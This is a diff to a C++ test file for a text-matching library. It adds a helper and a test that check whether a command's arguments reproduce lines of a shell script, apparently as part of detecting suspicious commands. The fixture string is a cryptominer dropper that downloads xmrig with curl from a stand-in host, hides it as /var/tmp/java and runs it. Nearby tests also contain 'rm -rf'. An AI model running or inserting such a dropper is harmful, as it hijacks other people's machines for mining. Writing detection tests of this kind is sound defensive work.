@@ -48,6 +48,17 @@ bool is_line_of(std::string_view stream, std::string_view command)
     return davy_match_command(&state);
 }
 
+bool has_line_of(std::string_view stream, std::string_view command)
+{
+    davy_text_sample sample = sample_of(stream);
+    davy_text_state state;
+    davy_text_begin(&state);
+    for (char byte : command)
+        davy_match_step(&sample, &state, davy_match_word_byte(static_cast<std::uint8_t>(byte)));
+    davy_match_end(&sample, &state);
+    return davy_match_words(&state);
+}
+
 const std::string kScript = "#!/bin/bash\nset -e\nWALLET=4ABCDEF\n"
                             "curl -fsSL http://u/xmrig -o /var/tmp/java\n"
                             "chmod +x /var/tmp/java\n/var/tmp/java -c w.conf &\n";
@@ -94,6 +105,15 @@ TEST(TextMatch, ACommandLineIsALine)
     EXPECT_FALSE(is_line_of(kScript, "echo\0chmod +x /var/tmp/java\0"s));
     EXPECT_FALSE(is_line_of("one\nhost.example.org\n", "logger\0one\nhost.example.org\0"s));
     EXPECT_FALSE(is_line_of("rm -rf x\n", "rm\0-rf\0x\0"s)) << "too short to prove anything";
+}
+
+TEST(TextMatch, AWordMayBeALine)
+{
+    using namespace std::string_literals;
+    EXPECT_TRUE(has_line_of(kScript, "/bin/echo\0chmod +x /var/tmp/java\0"s));
+    EXPECT_TRUE(has_line_of(kScript, "printf\0%s\0# mine\nchmod +x /var/tmp/java\0"s));
+    EXPECT_FALSE(has_line_of(kScript, "cp\0/var/tmp/java\0/opt/java\0"s));
+    EXPECT_FALSE(has_line_of("alpha\nbeta\n", "cp\0template\0alpha\0"s)) << "too short";
 }
 
 // An unquoted command substitution: runs of blanks and newlines become one blank.
